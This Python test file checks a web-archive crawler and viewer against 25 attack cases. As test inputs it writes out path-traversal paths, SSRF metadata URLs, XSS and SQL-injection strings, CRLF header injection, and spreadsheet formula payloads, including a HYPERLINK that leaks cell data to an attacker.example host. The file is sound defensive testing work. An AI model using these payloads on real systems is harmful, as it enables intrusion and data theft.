"""Security cases S-01 to S-25 against the real components.

The viewer is served by uvicorn over the corpus and WARC files of the session's
hostile crawl (archived pages with hostile titles, headers, meta tags and types);
storage cases use real SQLite files; the export is a real WACZ read back as a zip.
"""

from __future__ import annotations

import hashlib
import json
import socket
import sqlite3
import sys
import time
import zipfile
from pathlib import Path
from urllib.parse import quote

import pytest

from archive.package import PackageError, check_free_space, export_wacz
from archive.reader import RecordNotFound, resolve_path
from crawler import urls
from crawler.addresses import AddressPolicy, allowed_scheme
from crawler.network import SafeResolver
from crawler.terminal import escape_terminal
from schemas.corpus import Corpus, article_pages
from schemas.items import Article, Capture
from tests.archive.test_viewer import running_viewer

# -- the viewer over the hostile crawl ------------------------------------------------------

_CONNECTS: list[tuple[str, int]] = []
_WATCHING: list[bool] = [False]


def _audit(event: str, args: tuple) -> None:
    if event == "socket.connect" and _WATCHING[0]:
        address = args[1]
        if isinstance(address, tuple) and len(address) >= 2:
            _CONNECTS.append((str(address[0]), int(address[1])))


sys.addaudithook(_audit)


@pytest.fixture(scope="module")
def viewer(hostile):
    with running_viewer(hostile.db_path, hostile.warc_dir) as running:
        yield running


def _stamp() -> str:
    return time.strftime("%Y%m%d%H%M%S", time.gmtime())


@pytest.mark.crawl
def test_s01_path_traversal_never_reads_a_file_outside_the_archive(viewer):
    attacks = [
        "/web/2024id_/../../etc/passwd",
        "/web/2024id_/%2e%2e/%2e%2e/etc/passwd",
        "/web/2024id_/%252e%252e/%252e%252e/etc/passwd",
        "//static/%2e%2e/%2e%2e/etc/passwd",
        "/-/static/..%2f..%2f..%2fetc%2fpasswd",
        "/web/2024id_//etc/passwd",
        "/web/2024id_/..\\..\\etc\\passwd",
        "/web/2024id_/http://x/%00../../etc/passwd",
        "/web/2024id_/file:///etc/passwd",
    ]
    for path in attacks:
        reply = viewer.follow(path)  # a redirect must stay on the viewer (follow checks it)
        assert reply.status in (400, 404), (path, reply.status)
        assert b"root:" not in reply.body, path


def test_s01_a_symlink_in_the_archive_pointing_outside_is_refused(tmp_path):
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.warc.gz").write_bytes(b"secret")
    root = tmp_path / "warcs"
    root.mkdir()
    (root / "newsarchive-x.warc.gz").symlink_to(outside / "secret.warc.gz")
    with pytest.raises(RecordNotFound):
        resolve_path(root, "newsarchive-x.warc.gz")
    for name in ("../outside/secret.warc.gz", "/etc/passwd", "..\\x.warc.gz", "a\x00.warc.gz"):
        with pytest.raises(RecordNotFound):
            resolve_path(root, name)


@pytest.mark.crawl
def test_s02_s03_unarchived_and_ssrf_urls_are_404_with_no_outbound_connection(viewer):
    paths = [
        "/web/2024id_/http://169.254.169.254/latest/meta-data/",
        "/web/2024/http://127.0.0.1:22/",
        "/web/http://never-archived.example/story",
        "/web/2024id_/http://never-archived.example/?url=http://169.254.169.254/",
    ]
    _CONNECTS.clear()
    _WATCHING[0] = True
    try:
        replies = [viewer.get(p) for p in paths]
    finally:
        _WATCHING[0] = False
    assert [r.status for r in replies] == [404] * len(paths)
    others = [c for c in _CONNECTS if c[1] != viewer.port]
    assert others == [], f"the viewer connected out: {others}"


def _raw(viewer, hostile, path: str):
    return viewer.get(f"/web/{_stamp()}id_/" + quote(hostile.site.url(path), safe=":/?&=%"))


@pytest.mark.crawl
def test_s04_s05_s07_replayed_pages_are_sandboxed_with_no_live_loads(viewer, hostile):
    reply = _raw(viewer, hostile, "/s07-meta")
    assert reply.status == 200
    csp = reply.headers["content-security-policy"]
    directives = {d.strip().split(" ")[0]: d.strip() for d in csp.split(";")}
    assert directives["sandbox"] == "sandbox", "no allow-scripts, no allow-same-origin"
    assert directives["default-src"] == "default-src 'none'"
    assert directives["base-uri"] == "base-uri 'none'"
    assert directives["form-action"] == "form-action 'none'"
    assert "http" not in csp, "no live host is allowed to load"
    assert reply.headers["x-content-type-options"] == "nosniff"


@pytest.mark.crawl
def test_s06_archived_response_headers_are_never_emitted_live(viewer, hostile):
    reply = _raw(viewer, hostile, "/s06-headers")
    for name in (
        "set-cookie",
        "strict-transport-security",
        "refresh",
        "service-worker-allowed",
        "access-control-allow-origin",
        "content-disposition",
    ):
        assert name not in reply.headers, name
    assert "script-src *" not in reply.headers["content-security-policy"]
    assert "evil.example" not in reply.headers.get("link", "")
    assert "evil.example" not in reply.headers.get("location", "")


@pytest.mark.crawl
def test_s08_svg_and_mislabelled_types_are_served_nosniff_under_the_sandbox(viewer, hostile):
    for path in ("/s08-svg", "/s08-html-as-png"):
        reply = _raw(viewer, hostile, path)
        assert reply.status == 200
        assert reply.headers["x-content-type-options"] == "nosniff"
        assert reply.headers["content-security-policy"].startswith("sandbox")


@pytest.mark.crawl
def test_s09_hostile_titles_are_escaped_in_search_results_and_article_pages(viewer, hostile):
    (row,) = hostile.rows("SELECT id FROM articles WHERE text LIKE '%xsstitle%'")
    pages = [
        viewer.get("/corpus/articles?_search=xsstitle"),
        viewer.get(f"/article/{row['id']}"),
        viewer.get("/"),
    ]
    for reply in pages:
        assert reply.status == 200
        assert b"<script>alert('xss')" not in reply.body
        assert b"onerror=alert(2)>" not in reply.body.replace(b"&gt;", b"")
    assert b"&lt;script&gt;" in pages[1].body
    data = viewer.get("/corpus/articles.json?_search=xsstitle&_shape=array")
    assert "\u2028".encode() not in data.body, "U+2028 is escaped in JSON"
    stored = json.loads(data.body)[0]["title"]
    assert "<script>alert('xss')</script>" in stored, "stored verbatim, escaped on output"


@pytest.mark.crawl
def test_s10_a_reflected_url_is_escaped_in_error_pages(viewer):
    reply = viewer.get("/web/2024/http://x/%22%3E%3Cscript%3Ealert(1)%3C/script%3E")
    assert reply.status == 404
    assert b"<script>alert(1)" not in reply.body


@pytest.mark.crawl
def test_s11_crlf_in_a_request_path_never_becomes_a_header(viewer):
    with socket.create_connection((viewer.host, viewer.port), timeout=10) as sock:
        sock.sendall(
            b"GET /web/2024id_/http://x/%0d%0aSet-Cookie:%20a=b HTTP/1.1\r\n"
            b"Host: 127.0.0.1\r\nConnection: close\r\n\r\n"
        )
        data = b""
        while chunk := sock.recv(65536):
            data += chunk
    head = data.split(b"\r\n\r\n", 1)[0].lower()
    assert b"\r\nset-cookie:" not in head


def _schema(path: Path) -> str:
    with sqlite3.connect(path) as conn:
        sql = "\n".join(r[0] or "" for r in conn.execute("SELECT sql FROM sqlite_master"))
    return hashlib.sha256(sql.encode()).hexdigest()


@pytest.mark.crawl
def test_s13_sort_and_where_options_cannot_change_the_database(viewer, hostile):
    before = _schema(hostile.db_path)
    count = hostile.rows("SELECT count(*) AS n FROM articles")[0]["n"]
    for path in (
        "/corpus/articles?_sort=" + quote("title; DROP TABLE articles"),
        "/corpus/articles?_where=" + quote("1=1); DROP TABLE articles;--"),
        "/corpus?sql=" + quote("DROP TABLE articles"),
        "/corpus?sql=" + quote("UPDATE articles SET title = 'x'"),
    ):
        reply = viewer.get(path)
        assert reply.status in (400, 403), (path, reply.status)
    assert _schema(hostile.db_path) == before
    assert hostile.rows("SELECT count(*) AS n FROM articles")[0]["n"] == count


@pytest.mark.crawl
def test_s14_fts_query_syntax_abuse_is_answered_quickly_and_clearly(viewer):
    assert viewer.get("/corpus/articles?_search=" + "x" * 10_000).status == 400
    for query in ('"unbalanced', "NEAR(", "*", " ".join(["a*"] * 200), "AND OR", "x" * 999):
        started = time.monotonic()
        reply = viewer.get("/corpus/articles?_search=" + quote(query))
        assert reply.status in (200, 400), (query[:20], reply.status)
        assert time.monotonic() - started < 5


@pytest.mark.crawl
def test_s15_export_entry_names_never_derive_from_content(hostile, tmp_path):
    db = sqlite3.connect(hostile.db_path)
    db.row_factory = sqlite3.Row
    import sqlite_utils

    pages = article_pages(sqlite_utils.Database(db))
    out = export_wacz(hostile.warc_dir, pages, tmp_path / "out.wacz")
    with zipfile.ZipFile(out) as zf:
        names = zf.namelist()
    assert names
    for name in names:
        assert not name.startswith(("/", "\\")) and ".." not in name.split("/"), name
        assert ":" not in name and "\\" not in name
    warcs = [n for n in names if n.startswith("archive/")]
    assert warcs and all(n.endswith(".warc.gz") for n in warcs)


_FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.crawl
def test_s16_the_spreadsheet_export_defuses_formulas_in_every_cell(hostile, tmp_path):
    import csv

    from schemas.spreadsheet import export_table

    # The hostile crawl's own corpus, plus an article whose every field is a formula.
    db = tmp_path / "corpus.db"
    # SQLite's backup, not a file copy: rows still in the crawl's WAL come along too.
    with sqlite3.connect(hostile.db_path) as src, sqlite3.connect(db) as dst:
        src.backup(dst)
    corpus = Corpus(db)
    evil = {
        "title": '=HYPERLINK("http://attacker.example/?leak="&A1,"Open")',
        "author": "+cmd|' /C calc'!A0",
        "sitename": "@SUM(1+1)*cmd|' /C calc'!A0",
        "text": "-2+3+cmd|' /C calc'!A0\nsecond line",
        "language": "\t=1+1",
    }
    capture = Capture(
        url="http://h/=formula",
        status=200,
        fetched_at="2024-05-01T00:00:00+00:00",
        warc_filename="x.warc.gz",
        warc_offset=0,
        warc_length=1,
        warc_record_id="<urn:uuid:16>",
    )
    article = Article(
        evil["text"], evil["title"], evil["author"], None, evil["language"], evil["sitename"],
        None, capture.url, "x",
    )  # fmt: skip
    corpus.store_article(capture, article, url_key=capture.url, crawl_id=None)
    corpus.close()
    for suffix, delimiter in ((".csv", ","), (".tsv", "\t")):
        path, rows = export_table(db, tmp_path / f"articles{suffix}")
        with open(path, encoding="utf-8", newline="") as fh:
            table = list(csv.DictReader(fh, delimiter=delimiter))
        assert rows == len(table) >= 2
        for row in table:
            for name, cell in row.items():
                assert not cell.startswith(_FORMULA_START), (suffix, name, cell[:40])
        mine = next(r for r in table if r["url"] == capture.url)
        for name, value in evil.items():
            assert mine[name] == "'" + value  # defused, not altered


@pytest.mark.crawl
def test_s17_an_export_that_cannot_fit_is_refused_before_writing(hostile, tmp_path, monkeypatch):
    import shutil

    inputs = [str(p) for p in hostile.warc_files()]
    check_free_space(inputs, tmp_path)  # there is room here
    usage = shutil.disk_usage(tmp_path)
    monkeypatch.setattr("archive.package.shutil.disk_usage", lambda _p: usage._replace(free=1024))
    with pytest.raises(PackageError, match="not enough free space"):
        export_wacz(hostile.warc_dir, [], tmp_path / "full.wacz")
    assert not (tmp_path / "full.wacz").exists()


# -- storage ------------------------------------------------------------------------------------


def test_s12_sql_in_metadata_is_bound_and_stored_verbatim(tmp_path):
    db = tmp_path / "corpus.db"
    corpus = Corpus(db)
    before = _schema(db)
    crawl = corpus.start_crawl("news", {"x": "'); DROP TABLE crawls;--"}, {})
    evil = "'); DROP TABLE articles;-- \" OR 1=1 --"
    capture = Capture(
        url="http://h/a'); DROP TABLE captures;--",
        status=200,
        fetched_at="2024-05-01T00:00:00+00:00",
        warc_filename="x.warc.gz",
        warc_offset=0,
        warc_length=1,
        warc_record_id="<urn:uuid:1>",
    )
    article = Article(evil, evil, evil, None, evil, evil, None, capture.url, "x")
    corpus.store_article(capture, article, url_key=evil, crawl_id=crawl)
    corpus.close()
    assert _schema(db) == before
    with sqlite3.connect(db) as conn:
        assert conn.execute("SELECT title, author, text FROM articles").fetchone() == (
            evil,
            evil,
            evil,
        )


# -- crawler side ---------------------------------------------------------------------------


def test_s18_only_http_and_https_are_fetched_or_scheduled():
    for url in ("file:///etc/passwd", "ftp://h/x", "data:text/html,x", "javascript:alert(1)"):
        assert not allowed_scheme(url)
        assert urls.canonicalize_url(url) is None
    assert allowed_scheme("https://example.org/") and allowed_scheme("http://example.org/")
    from scrapy.settings import Settings

    settings = Settings()
    settings.setmodule("crawler.settings")
    handlers = settings.getdict("DOWNLOAD_HANDLERS")
    assert all(handlers.get(s) is None for s in ("file", "data", "ftp", "s3"))


def test_s19_private_loopback_link_local_and_metadata_addresses_are_blocked():
    policy = AddressPolicy(["127.0.0.1/32"])
    for address in (
        "10.1.2.3",
        "172.16.0.1",
        "192.168.1.1",
        "169.254.169.254",
        "127.0.0.2",
        "0.0.0.0",
        "100.64.0.1",
        "::1",
        "fe80::1",
        "fc00::1",
        "::ffff:10.0.0.1",
        "224.0.0.1",
        "not-an-ip",
    ):
        assert policy.blocked(address), address
    for address in ("127.0.0.1", "::ffff:127.0.0.1", "93.184.216.34", "2606:4700::1111"):
        assert not policy.blocked(address), address


def test_s19_dns_rebinding_is_caught_by_the_resolver_at_connection_time(monkeypatch):
    from scrapy.resolver import CachingThreadedResolver
    from twisted.internet import defer

    answers = iter(["93.184.216.34", "127.0.0.2"])  # public first, then loopback
    monkeypatch.setattr(
        CachingThreadedResolver,
        "getHostByName",
        lambda self, name, timeout=(): defer.succeed(next(answers)),
    )
    resolver = SafeResolver(None, 0, 5.0, AddressPolicy(["127.0.0.1/32"]))
    results: list[object] = []
    resolver.getHostByName("news.example").addBoth(results.append)
    resolver.getHostByName("news.example").addBoth(results.append)
    assert results[0] == "93.184.216.34"
    assert "blocked address 127.0.0.2" in str(results[1].value)


def test_s21_no_jobdir_and_no_pickle_loaded_from_the_data_dir():
    from scrapy.settings import Settings

    settings = Settings()
    settings.setmodule("crawler.settings")
    assert not settings.get("JOBDIR")
    root = Path(__file__).resolve().parents[2]
    # The extraction pool pickles jobs and results over the anonymous pipes between the
    # crawling process and the workers it spawned, as ProcessPoolExecutor does: never
    # from a file. That module opens no file at all; no other module uses pickle.
    pool = root / "crawler" / "extract_pool.py"
    for package in ("crawler", "archive", "schemas"):
        for path in (root / package).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if path == pool:
                assert "open(" not in text and "Path" not in text and "fdopen" not in text
                continue
            assert "pickle.load" not in text and "import pickle" not in text, path


def test_s22_telnet_and_remote_control_consoles_are_off():
    from scrapy.settings import Settings

    settings = Settings()
    settings.setmodule("crawler.settings")
    assert settings.getbool("TELNETCONSOLE_ENABLED") is False
    assert settings.getbool("REMOTE_CONTROL_ENABLED") is False


def test_s24_url_rules_are_linear_time_on_100_kb_urls():
    nasty = [
        "http://h/" + "a/" * 8_000,
        "http://h/?" + "a=1&" * 4_000,
        "http://h/" + "2024/" * 3_000,
        "http://h/" + ";jsessionid=" * 1_300,
        "http://h/" + "a/" * 50_000,
        "http://h/" + "%" * 100_000,
        "http://h/?" + "a=1&" * 25_000,
        "http://h/" + "2024/" * 20_000,
        "http://h/" + ";jsessionid=" * 8_000,
        "http://h/" + "amp/" * 25_000 + "!",
        "http://h/page/" + "9" * 100_000,
    ]
    functions = [
        urls.canonicalize_url,
        urls.url_key,
        urls.is_amp_url,
        urls.pagination_number,
        urls.is_listing_url,
        urls.url_article_score,
        urls.has_date_in_path,
        urls.is_asset_url,
        urls.url_template,
    ]
    for url in nasty:
        for fn in functions:
            best = min(_timed(fn, url) for _ in range(3))
            assert best < 0.1, f"{fn.__name__} took {best:.3f} s on {url[:30]}..."


def _timed(fn, arg) -> float:
    started = time.perf_counter()
    fn(arg)
    return time.perf_counter() - started


def test_s25_control_characters_and_bidi_overrides_are_escaped_for_terminals():
    text = "title\x1b[31mred\x07\r\u202eexe.txt\nnext\tline\x00"
    shown = escape_terminal(text)
    assert "\x1b" not in shown and "\x07" not in shown and "\r" not in shown
    assert "\u202e" not in shown and "\x00" not in shown
    assert "\\x1b[31mred" in shown and "\\u202e" in shown
    assert "\nnext\tline" in shown


@pytest.mark.crawl
def test_s25_scrapy_verify_prints_hostile_urls_escaped(hostile, tmp_path):
    from tests.crawling import scrapy_command

    db = tmp_path / "c.db"
    db.write_bytes(hostile.db_path.read_bytes())
    with sqlite3.connect(db) as conn:
        conn.execute("DELETE FROM articles")
        conn.execute(
            "UPDATE captures SET url = url || ?, warc_offset = warc_offset + 1"
            " WHERE id = (SELECT min(id) FROM captures)",
            ("\x1b[2J\u202e",),
        )
    proc = scrapy_command(
        "verify", "-s", f"CORPUS_DB={db}", "-s", f"WARC_DIR={hostile.warc_dir}", timeout=120
    )
    assert proc.returncode == 1, proc.stderr.decode()[-500:]
    assert b"\x1b[2J" not in proc.stdout and "\u202e".encode() not in proc.stdout
    assert b"\\x1b[2J" in proc.stdout
